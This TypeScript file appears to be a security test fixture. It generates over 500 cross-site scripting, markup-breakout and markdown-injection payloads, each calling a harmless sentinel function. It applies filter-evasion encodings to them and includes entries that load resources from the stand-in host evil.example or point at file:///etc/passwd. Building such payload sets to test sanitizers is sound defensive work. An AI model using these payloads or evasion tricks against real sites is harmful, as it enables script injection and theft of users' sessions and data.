// Texts that want to be more than text. Each calls `__hit()` where somebody runs, parses or follows it. All our own.

/** Ways to run something from within markup. */
const markup = [
  '<script>__hit()</script>',
  '<script src="data:text/javascript,__hit()"></script>',
  '<img src=x onerror=__hit()>',
  '<img src="x" onerror="__hit()" />',
  '<svg onload=__hit()>',
  '<svg><script>__hit()</script></svg>',
  '<svg><animate onbegin=__hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__hit()"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=__hit()></mtext></math>',
  '<body onload=__hit()>',
  '<iframe src="javascript:__hit()"></iframe>',
  '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
  '<object data="javascript:__hit()"></object>',
  '<embed src="javascript:__hit()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:__hit()">',
  '<link rel="stylesheet" href="data:text/css,*{background:url(https://evil.example/x)}">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="javascript:__hit()"><button>Go</button></form>',
  '<input autofocus onfocus=__hit()>',
  '<details open ontoggle=__hit()>',
  '<video><source onerror=__hit()></video>',
  '<audio src=x onerror=__hit()></audio>',
  '<a href="javascript:__hit()">here</a>',
  '<template shadowrootmode="open"><img src=x onerror=__hit()></template>',
  '<slot onslotchange=__hit()></slot>',
  '<parlor-chat onclick=__hit()>x</parlor-chat>',
  '<noscript><p title="</noscript><img src=x onerror=__hit()>"></noscript>',
];

/** Ways to be followed. */
const links = [
  'javascript:__hit()',
  'javascript://example.org/%0a__hit()',
  'data:text/html,<script>__hit()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__hit()"/>',
  'vbscript:__hit()',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:javascript:__hit()',
];

/** Ways into the markup that a careless template would put around a text. */
const breakouts = ['"><', "'><", '--><', '</textarea><', '</title><', '</style><', ']]><', '`><'].map(
  (before) => `${before}img src=x onerror=__hit()>`,
);

/** Markdown that becomes something. */
const markdown = [
  '[here](javascript:__hit())',
  '[here](<javascript:__hit()>)',
  '![x](javascript:__hit())',
  '![x" onerror="__hit()](x)',
  '[x](https://example.org" onclick="__hit())',
  '<javascript:__hit()>',
  '[a]: javascript:__hit()\n[a]',
  '`<img src=x onerror=__hit()>`',
  '```html\n<script>__hit()</script>\n```',
  '**<img src=x onerror=__hit()>**',
];

/** Ways to hide a word from whoever looks for it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text
      .replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter))
      .replace(/__hit/gi, '__hit'),
  (text) => text.replace(/script/g, 'scr\tipt'),
  (text) => text.replace(/script/g, 'scr\nipt').replace(/on(\w+)=/g, 'on$1\n='),
  (text) => text.replace(/</g, '<\0'),
  (text) => text.replace(/:/g, '&colon;').replace(/</g, '&lt;'),
  (text) => text.replace(/j/g, '&#106;').replace(/</g, '&#x3c;'),
  (text) => `\u0001 ${text}`,
  (text) => text.replace(/script/g, 'scr<script>ipt'),
  (text) => `\u202e${text}\u2066`,
];

/** More than 500. */
export const payloads: readonly string[] = [
  ...new Set(
    [...markup, ...links, ...breakouts, ...markdown].flatMap((text) => disguises.map((disguise) => disguise(text))),
  ),
];
